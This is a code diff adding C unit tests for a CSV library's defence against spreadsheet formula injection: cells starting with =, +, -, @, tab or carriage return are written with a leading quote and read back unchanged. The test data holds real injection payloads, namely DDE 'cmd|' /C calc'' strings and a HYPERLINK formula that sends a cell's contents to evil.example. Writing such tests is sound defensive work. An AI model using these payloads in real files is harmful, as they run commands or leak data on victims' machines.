@@ -556,6 +556,107 @@ test_writer_errors (void)
   g_assert_nonnull (strstr (error->message, "row 1"));
 }
 
+/* Cells a spreadsheet would run as formulas are written as text (a
+ * leading '), and read back as they were. */
+static const char *const formula_cells[] = {
+  "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
+  "=cmd|' /C calc'!A0",
+  "+86 138 0000 0000",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "'=already quoted",
+  "''-two quotes",
+  "-3",
+  NULL,
+};
+static const char *const formula_written[] = {
+  "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点击\"\")\"",
+  "'=cmd|' /C calc'!A0",
+  "'+86 138 0000 0000",
+  "'-2+3+cmd|' /C calc'!A0",
+  "'@SUM(1+1)*cmd|' /C calc'!A0",
+  "'\t=1+1",
+  "\"'\r=1+1\"",
+  "''=already quoted",
+  "'''-two quotes",
+  "'-3",
+};
+
+static void
+test_writer_formulas (void)
+{
+  g_autofree char *path = scratch_path ("formulas.csv");
+  g_autoptr(GError) error = NULL;
+  g_autoptr(StCsvWriter) writer = st_csv_writer_new (path, ST_CSV_ENCODING_UTF8, &error);
+  g_autoptr(StCsvReader) reader = NULL;
+  g_autoptr(GString) expected = g_string_new (NULL);
+  g_autoptr(GBytes) bytes = NULL;
+  const char *const *fields;
+  guint n_fields = 0;
+
+  g_assert_no_error (error);
+  for (guint i = 0; formula_cells[i] != NULL; i++)
+    {
+      const char *row[] = { "a", formula_cells[i] };
+
+      g_assert_true (st_csv_writer_write_row (writer, row, 2, &error));
+      g_assert_no_error (error);
+      g_string_append_printf (expected, "a,%s\r\n", formula_written[i]);
+    }
+  g_assert_true (st_csv_writer_close (writer, &error));
+  g_assert_no_error (error);
+  bytes = read_bytes (path);
+  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), expected->str, expected->len);
+
+  reader = st_csv_reader_new_for_path (path, &error);
+  g_assert_no_error (error);
+  for (guint i = 0; formula_cells[i] != NULL; i++)
+    {
+      fields = st_csv_reader_next (reader, &n_fields, NULL, &error);
+      g_assert_no_error (error);
+      g_assert_cmpuint (n_fields, ==, 2);
+      g_assert_cmpstr (fields[1], ==, formula_cells[i]);
+    }
+  assert_end (reader);
+}
+
+/* A figure of kind number stays a number ("-3" is no formula); text in a
+ * number field is text all the same. */
+static void
+test_writer_numbers (void)
+{
+  const char *const row[] = { "-3", "-7.5", "12", "-3", "-1+cmd|' /C calc'!A0", "=1+1", "-" };
+  const StCsvFieldKind kinds[] = {
+    ST_CSV_FIELD_NUMBER, ST_CSV_FIELD_NUMBER, ST_CSV_FIELD_NUMBER, ST_CSV_FIELD_TEXT,
+    ST_CSV_FIELD_NUMBER, ST_CSV_FIELD_NUMBER, ST_CSV_FIELD_NUMBER,
+  };
+  const char expected[] = "-3,-7.5,12,'-3,'-1+cmd|' /C calc'!A0,'=1+1,'-\r\n";
+  g_autofree char *path = scratch_path ("numbers.csv");
+  g_autoptr(GError) error = NULL;
+  g_autoptr(StCsvWriter) writer = st_csv_writer_new (path, ST_CSV_ENCODING_UTF8, &error);
+  g_autoptr(GBytes) bytes = NULL;
+
+  g_assert_no_error (error);
+  g_assert_true (st_csv_writer_write_row_kinds (writer, row, kinds, G_N_ELEMENTS (row), &error));
+  g_assert_true (st_csv_writer_close (writer, &error));
+  g_assert_no_error (error);
+  bytes = read_bytes (path);
+  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), expected, sizeof expected - 1);
+}
+
+/* A file someone else wrote: the reader drops only the one ' that stands
+ * before a formula character, nothing else. */
+static void
+test_reader_formula_quote (void)
+{
+  g_autoptr(StCsvReader) reader = open_string ("'=a,'b,'',=c,-d,''@e,x'=y\n", -1);
+
+  assert_record (reader, 1, "=a", "'b", "''", "=c", "-d", "'@e", "x'=y", NULL);
+  assert_end (reader);
+}
+
 static void
 test_encoding_names (void)
 {
@@ -591,6 +692,9 @@ main (int   argc,
   g_test_add_func ("/core/csv/write/gb18030", test_writer_gb18030);
   g_test_add_func ("/core/csv/write/replaces-atomically", test_writer_replaces_atomically);
   g_test_add_func ("/core/csv/write/errors", test_writer_errors);
+  g_test_add_func ("/core/csv/write/formulas", test_writer_formulas);
+  g_test_add_func ("/core/csv/write/numbers", test_writer_numbers);
+  g_test_add_func ("/core/csv/read/formula-quote", test_reader_formula_quote);
   g_test_add_func ("/core/csv/encoding-names", test_encoding_names);
 
   return g_test_run ();
